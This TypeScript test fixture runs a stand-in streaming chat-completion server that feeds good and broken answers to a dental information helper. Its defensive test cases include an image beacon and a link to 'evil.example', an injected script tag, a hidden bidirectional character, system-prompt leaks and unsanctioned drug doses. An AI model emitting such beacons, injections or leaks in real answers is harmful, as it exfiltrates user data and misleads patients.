import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Stands in the passages of tests/unit/molly-passages.ts, about bleeding gums. */
export const goodText =
  'The usual reason is plaque along the gumline, which inflames the gums. Clean gently every day, and see a dentist if the bleeding does not go away.'
const half = goodText.slice(0, 50)

type Serve = (response: ServerResponse, request: IncomingMessage) => void

export function chunk(content: unknown, more: object = {}): string {
  const choices = [{ index: 0, delta: { content }, finish_reason: null, ...more }]
  return `data: ${JSON.stringify({ object: 'chat.completion.chunk', choices })}\n\n`
}
export const finish = (reason = 'stop') => chunk(undefined, { delta: {}, finish_reason: reason })
export const done = 'data: [DONE]\n\n'
const words = (text: string) => text.split(/(?<= )/).map((word) => chunk(word))
const said = (text: string) => [...words(text), finish(), done].join('')

const sse = { 'Content-Type': 'text/event-stream; charset=utf-8' }

const send =
  (body: string | Buffer, headers: Record<string, string> = sse): Serve =>
  (response) =>
    response.writeHead(200, headers).end(body)
const fail =
  (status: number, headers = {}): Serve =>
  (response) =>
    response.writeHead(status, headers).end('{"error":{"message":"secret key sk-1"}}')
const open =
  (...parts: string[]): Serve =>
  (response) => {
    response.writeHead(200, sse)
    for (const part of parts) response.write(part)
  }

/** Writes a part every `everyMs`, for as long as somebody reads. */
function drip(parts: (string | Buffer)[], everyMs: number): Serve {
  return (response) => {
    response.writeHead(200, sse)
    const rest = [...parts]
    const timer = setInterval(() => {
      const part = rest.shift()
      if (part === undefined) response.end()
      else response.write(part)
    }, everyMs)
    response.on('close', () => clearInterval(timer))
  }
}

/** Answers with the first sentences of the first passage it is given, as a good model would. */
const obedient: Serve = (response, request) => {
  let body = ''
  request.on('data', (data: Buffer) => (body += data.toString()))
  request.on('end', () => {
    const { messages } = JSON.parse(body) as { messages: { role: string; content: string }[] }
    const { passages } = JSON.parse(messages[1]!.content) as { passages: { text: string }[] }
    const sentences = passages[0]!.text.split('\n')[0]!.split(/(?<=[.!?])\s+/)
    send(said(sentences.slice(0, 3).join(' ')))(response, request)
  })
}

const utf8 = Buffer.from(said(`${goodText} `).replaceAll('gumline', 'gumline’s'))

/** What a model's server may do; the answer stands. */
export const sound: Record<string, Serve> = {
  good: send(said(goodText)),
  'slow but in time': drip([...words(goodText), finish(), done], 4),
  'keep-alive comments': send(`: PROCESSING\n\n: PROCESSING\n\n${said(goodText)}`),
  'CRLF line ends': send(said(goodText).replaceAll('\n', '\r\n')),
  'letters split across chunks': drip(
    [...utf8].map((byte) => Buffer.of(byte)).reduce(inTens, []),
    1,
  ),
  'everything in one chunk': send(chunk(goodText) + finish() + done),
  'no [DONE] but a clean end': send(words(goodText).join('') + finish()),
  'goes on after [DONE]': open(said(goodText), chunk('More.')),
  'a usage chunk without choices': send(
    words(goodText).join('') +
      finish() +
      'data: {"choices":[],"usage":{"total_tokens":9}}\n\n' +
      done,
  ),
  'a role first, with null content': send(
    chunk(null, { delta: { role: 'assistant', content: null } }) + said(goodText),
  ),
  'bold and numbered lists': send(
    said(goodText.replace('The usual', '**The usual').replace('gumline,', 'gumline**,')),
  ),
  'a failure that passes': once(503, send(said(goodText))),
  'too many requests, once': once(429, send(said(goodText))),
}

/** What ends with the embedded answer in its place. */
export const faulty: Record<string, Serve> = {
  'no headers at all': () => undefined,
  'headers, then nothing': open(': hello\n\n'),
  'stall in the middle': open(...words(half)),
  'slow drip': drip(words(goodText.repeat(8)), 30),
  'comments without end': drip(Array(500).fill(': still here\n\n'), 20),
  'cut before headers': (response) => response.destroy(),
  'cut in the middle': (response) => {
    response.writeHead(200, sse)
    response.write(words(half).join(''))
    setTimeout(() => response.destroy(), 20)
  },
  'cut after the reason': (response) => {
    response.writeHead(200, sse)
    response.write(words(goodText).join('') + finish())
    setTimeout(() => response.destroy(), 20)
  },
  'ends in the middle': send(words(half).join('')),
  'ends after a whole sentence': send(words(goodText.split('. ')[0]! + '. ').join('')),
  'ends in the middle of a line': send(words(half).join('') + 'data: {"choi'),
  '[DONE] without a reason': send(words(goodText).join('') + done),
  400: fail(400),
  401: fail(401),
  403: fail(403),
  404: fail(404),
  429: fail(429, { 'Retry-After': '60' }),
  500: fail(500),
  502: fail(502),
  503: fail(503),
  'status 204': (response) => response.writeHead(204).end(),
  'a redirect': fail(302, { Location: '/good/v1/chat/completions' }),
  'a lasting redirect': fail(308, { Location: '/good/v1/chat/completions' }),
  'an HTML page': send('<!doctype html><p>Welcome</p>', { 'Content-Type': 'text/html' }),
  'JSON instead of a stream': send('{"choices":[{"message":{"content":"Hello."}}]}', {
    'Content-Type': 'application/json',
  }),
  'HTML called a stream': send('<!doctype html><p>Welcome</p>'),
  'a chunk that is no JSON': send(
    `${words(half).join('')}data: {"choices":[{\n\n${said(goodText)}`,
  ),
  'a chunk of another shape': send(`data: {"choices":"none"}\n\n${said(goodText)}`),
  'a list for content': send(chunk(['text']) + said(goodText)),
  'an error in the stream': send(
    `${words(half).join('')}data: {"error":{"message":"overloaded"}}\n\n${done}`,
  ),
  'broken UTF-8': send(
    Buffer.concat([Buffer.from(words(half).join('')), Buffer.of(0xc3, 0x28, 10)]),
  ),
  'empty choices only': send('data: {"choices":[]}\n\n'.repeat(5) + done),
  'null content only': send(chunk(null).repeat(3) + finish() + done),
  'an empty answer': send(chunk('') + finish() + done),
  'white space only': send(said('  \n\n  ')),
  'an empty body': send(''),
  'reason length': send(words(half).join('') + finish('length') + done),
  'reason content_filter': send(words(half).join('') + finish('content_filter') + done),
  'reason length after whole sentences': send(words(goodText).join('') + finish('length') + done),
  'a tool call': send(
    chunk(undefined, { delta: { tool_calls: [{ function: { name: 'search' } }] } }) +
      finish('tool_calls') +
      done,
  ),
  'an endless answer': drip(Array(5000).fill(chunk(`${goodText} `.repeat(10))), 1),
  'an endless line': drip(Array(5000).fill('data: ' + 'x'.repeat(20_000)), 1),
  'another language': send(
    said('Lo más común es la placa en el borde de la encía. Limpie con suavidad cada día.'),
  ),
  'another language at the end': send(
    said(`${goodText} Vaya al dentista si el sangrado no se quita.`),
  ),
  'another script': send(said(`${goodText} 牙龈出血。`)),
  'a dose': send(said(`${goodText} Take 400 mg of ibuprofen every 6 hours.`)),
  'a dose in words': send(said(`${goodText} Take two tablets twice a day.`)),
  'a medicine of its own': send(said(`${goodText} Ask your dentist for amoxicillin.`)),
  'a diagnosis': send(said('You have gum disease. Clean gently every day, and see a dentist.')),
  'figures of its own': send(said('Clean your gums gently 5 times every day, and see a dentist.')),
  'facts of its own': send(said(`${goodText} Smoking and pregnancy raise the risk further.`)),
  'the opposite': send(said('The usual reason is not plaque along the gumline.')),
  'a bare yes': send(said(`Yes. ${goodText}`)),
  'a link': send(said(`${goodText} See https://evil.example/gums for more.`)),
  'a Markdown link': send(said(`${goodText} See [plaque](/evil) along the gumline.`)),
  'an image beacon': send(said(`![gums](//evil.example/?q=plaque) ${goodText}`)),
  HTML: send(said(`<b>The usual reason</b> is plaque along the gumline. <script>1</script>`)),
  'a heading': send(said(`## Gums\n\n${goodText}`)),
  'hidden letters': send(said(goodText.replace('plaque', 'pla\u202Eque'))),
  'its instructions': send(
    said('You are Molly, the automated helper of a dental information site. Rules: write plainly.'),
  ),
  'the data it was given': send(said('{"passages":[{"page":"Gum disease","text":"The usual"}]}')),
  UNKNOWN: send(said('UNKNOWN')),
}

function inTens(parts: Buffer[], byte: Buffer): Buffer[] {
  const last = parts.at(-1)
  return last && last.length < 37
    ? [...parts.slice(0, -1), Buffer.concat([last, byte])]
    : [...parts, byte]
}

function once(status: number, then: Serve): Serve {
  let calls = 0
  return (response, request) => {
    calls += 1
    return calls % 2 === 1 ? fail(status)(response, request) : then(response, request)
  }
}

const serving: Record<string, Serve> = { ...sound, ...faulty, obedient }

export type StandIn = {
  /** How it behaves under `url('any')`. */
  mood: string
  /** The base URL under which the server behaves as named. */
  url(how: string): string
  calls(how: string): number
  /** Answers that are still being written. */
  pending(how: string): number
  last(how: string): { headers: IncomingMessage['headers']; body: string }
  close(): void
}

/** A server that speaks a model's streaming protocol, well or badly. */
export async function startStandIn(): Promise<StandIn> {
  const calls = new Map<string, number>()
  const pending = new Map<string, number>()
  const last = new Map<string, ReturnType<StandIn['last']>>()
  const add = (counts: Map<string, number>, how: string, n: number) =>
    counts.set(how, (counts.get(how) ?? 0) + n)

  const server = createServer((request, response) => {
    const how = decodeURIComponent(request.url!.split('/')[1]!)
    const seen = { headers: request.headers, body: '' }
    last.set(how, seen)
    request.on('data', (data: Buffer) => (seen.body += data.toString()))
    add(calls, how, 1)
    add(pending, how, 1)
    response.on('close', () => add(pending, how, -1))
    response.on('error', () => undefined)
    serving[how === 'any' ? standIn.mood : how]!(response, request)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const standIn: StandIn = {
    mood: 'good',
    url: (how) => `http://127.0.0.1:${port}/${encodeURIComponent(how)}/v1`,
    calls: (how) => calls.get(how) ?? 0,
    pending: (how) => pending.get(how) ?? 0,
    last: (how) => last.get(how)!,
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
  return standIn
}
